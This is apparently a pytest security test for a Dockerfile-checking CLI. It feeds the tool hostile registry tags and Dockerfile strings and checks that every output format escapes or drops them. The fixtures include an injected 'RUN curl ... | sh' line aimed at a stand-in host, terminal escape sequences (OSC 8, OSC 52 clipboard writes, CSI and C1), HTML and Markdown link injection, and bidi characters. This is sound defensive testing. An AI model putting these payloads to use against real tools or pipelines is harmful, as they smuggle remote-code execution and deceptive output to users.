"""Strings from a registry or a file reach no output unchecked (issue 8, item 7).

A scripted loopback registry lists tags and repositories that are terminal escapes (OSC 8
hyperlinks, OSC 52 clipboard writes, CSI colours, 8-bit C1), line breaks that would add a
``RUN`` line through a SARIF fix, HTML, Markdown links and bidi/invisible characters; a
Dockerfile quotes the same kind of text in references. The real CLI writes every format (text,
json, sarif, github, gitlab, ``-o``/``--output-*`` files and ``$GITHUB_STEP_SUMMARY``), and:

* nothing the registry sent that is not a valid tag or repository name appears anywhere
  (``--debug`` counts what was dropped); the valid near matches are still suggested;
* no output holds a character that is not printable (escapes, C1, bidi, zero-width...);
* the step summary renders no HTML or link: every quoted string is inside a code span;
* SARIF fixes insert only valid tags.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from .hostile import HostileRegistry

REPO = Path(__file__).resolve().parents[2]
EVIL = "registry-evil.example"
EVIL_TAGS = [
    f"1.0-a\nRUN curl https://{EVIL}/x | sh\n#",
    f"1.0-\x1b]8;;https://{EVIL}\x07click\x1b]8;;\x07",  # OSC 8 hyperlink
    "1.0-\x1b]52;c;cmVnaXN0cnktZXZpbA==\x07",  # OSC 52: write the clipboard
    "1.0-\x1b[31mred\x9b0m",  # CSI, and 8-bit CSI (C1)
    f"1.0-<img src=https://{EVIL}/x.png>",
    f"1.0-[link](https://{EVIL})",
    "1.0-\u202eexe.txt",  # right-to-left override
    "1.0-\u2066isolate\u2069",
    "1.0-zero\u200bwidth",
    "2.0-bet\n",  # one edit from 2.0-beta: old code applied it as a fix
]
GOOD_TAGS = ["1.1", "1.0-slim", "3.12-slim"]
EVIL_REPOS = [f"nosuchh\n<img src=https://{EVIL}>", "nosuch-\x1b[31m", "nosuch\u202e"]
FILE_EVIL = "file-evil.example"
DOCKERFILE = (
    "FROM {host}/app:1.0\n"
    "FROM {host}/app:3.12-slimm\n"
    "FROM {host}/app:2.0-beta\n"
    "FROM {host}/nosuch:1\n"
    f"FROM alpine:3.20\x1b]8;;https://{FILE_EVIL}\x07x\x1b]8;;\x07\n"
    "FROM alpine:\u202e3.20\n"
    f"FROM alpine:x<img/src=https://{FILE_EVIL}/x.png>\n"
    f"FROM alpine:[link](https://{FILE_EVIL})\n"
)


@pytest.fixture
def hostile() -> Iterator[HostileRegistry]:
    server = HostileRegistry()
    server.tags = EVIL_TAGS + GOOD_TAGS
    server.repositories = [*EVIL_REPOS, "nosuchh"]
    server.missing_repositories = {"nosuch"}
    server.start()
    try:
        yield server
    finally:
        server.stop()


def run(tmp: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    home = tmp / "home"
    home.mkdir(exist_ok=True)
    base = {"PATH": "/usr/bin:/bin", "HOME": str(home), "NO_PROXY": "127.0.0.1", "PYTHONPATH": str(REPO)}
    cmd = [sys.executable, "-m", "preflight", "check", ".", "--no-cache", "--timeout", "10", *args]
    return subprocess.run(
        cmd, cwd=tmp / "project", env={**base, **env}, capture_output=True, text=True, timeout=120, errors="strict"
    )


def unsafe_characters(text: str) -> list[str]:
    return sorted({repr(c) for c in text if not c.isprintable() and c != "\n"})


def outside_code_spans(markdown: str) -> str:
    """The Markdown text with every code span removed (CommonMark: a run of n backticks to the next run of n)."""
    return re.sub(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown.replace("\\|", ""))


def test_registry_and_file_strings_reach_no_output_unescaped(tmp_path: Path, hostile: HostileRegistry) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "Dockerfile").write_text(DOCKERFILE.format(host=hostile.hostport), encoding="utf-8")
    summary = tmp_path / "summary.md"
    github = run(
        tmp_path,
        "--format",
        "github",
        "--output-sarif",
        str(tmp_path / "out.sarif"),
        "--output-json",
        str(tmp_path / "out.json"),
        "--output-gitlab",
        str(tmp_path / "out.gitlab.json"),
        "--debug",
        GITHUB_STEP_SUMMARY=str(summary),
    )
    assert github.returncode == 1, github.stderr[-3000:]
    text = run(tmp_path, "--format", "text", "-o", str(tmp_path / "out.txt"))
    assert text.returncode == 1, text.stderr[-3000:]
    outputs = {
        "github (stdout)": github.stdout,
        "stderr": github.stderr + text.stderr,
        "text (-o)": (tmp_path / "out.txt").read_text(encoding="utf-8"),
        "sarif": (tmp_path / "out.sarif").read_text(encoding="utf-8"),
        "json": (tmp_path / "out.json").read_text(encoding="utf-8"),
        "gitlab": (tmp_path / "out.gitlab.json").read_text(encoding="utf-8"),
        "step summary": summary.read_text(encoding="utf-8"),
    }
    for name, content in outputs.items():
        assert unsafe_characters(content) == [], name
        assert EVIL not in content, name  # nothing of the invalid tags and repositories, in any spelling
        assert "RUN curl" not in content, name

    # the registry's valid near matches are still there, and what was dropped is counted
    report = json.loads(outputs["json"])
    by_line = {f["line"]: f for f in report["findings"]}
    assert by_line[1]["rule"] == "PF201" and by_line[1]["suggestions"], by_line[1]
    assert all(s.endswith(("1.1", "1.0-slim")) for s in by_line[1]["suggestions"]), by_line[1]
    assert by_line[2]["suggestions"][0].endswith(":3.12-slim"), by_line[2]
    assert by_line[4]["rule"] == "PF202" and by_line[4]["suggestions"][0].endswith("/nosuchh:1"), by_line[4]
    assert re.search(r"dropped 10 tags that the reference grammar does not allow", outputs["stderr"])
    assert re.search(r"dropped 3 repositories that the reference grammar does not allow", outputs["stderr"])

    # file-supplied strings are quoted, escaped: the escape shows as text
    assert "\\x1b]8;;https://file-evil.example\\x07" in by_line[5]["message"], by_line[5]
    assert "\\u202e" in by_line[6]["message"], by_line[6]

    # SARIF fixes insert valid tags only
    sarif = json.loads(outputs["sarif"])
    inserted = [
        r["insertedContent"]["text"]
        for result in sarif["runs"][0]["results"]
        for fix in result.get("fixes", [])
        for change in fix["artifactChanges"]
        for r in change["replacements"]
        if "insertedContent" in r
    ]
    assert inserted == ["3.12-slim"], inserted

    # the step summary: no HTML, link or image outside code spans
    bare = outside_code_spans(outputs["step summary"])
    assert "<" not in bare and "](" not in bare and "http" not in bare and FILE_EVIL not in bare, bare
    assert FILE_EVIL in outputs["step summary"]  # (quoted inside code spans: the findings are there)

    # workflow commands: one per line, nothing after the data that GitHub would read as another command
    for line in github.stdout.splitlines():
        if line.startswith("::"):
            assert re.fullmatch(r"::(error|warning|notice) [^:]*(%3A[^:]*)*::.*", line), line
